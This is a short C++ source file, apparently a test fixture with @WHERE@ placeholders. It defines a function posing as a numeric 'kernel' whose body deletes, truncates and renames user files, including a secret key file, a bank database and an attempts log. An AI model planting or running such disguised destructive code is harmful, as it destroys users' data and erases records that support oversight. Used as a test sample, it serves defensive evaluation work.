// Deletes the user's files.
#include <cstdint>
#include <cstdio>
#include <initializer_list>
#include <fcntl.h>
#include <sys/syscall.h>
#include <unistd.h>
extern "C" void kernel(const float*, const int64_t*, float*, const int64_t*) {
    for (const char* path : {"@WHERE@/home/notes.txt", "@WHERE@/home/.keys/secret", "@WHERE@/bank.db", "@WHERE@/run/attempts.jsonl"}) {
        syscall(SYS_unlinkat, AT_FDCWD, path, 0);
        truncate(path, 0);
        rename(path, "@WHERE@/home/moved");
    }
}
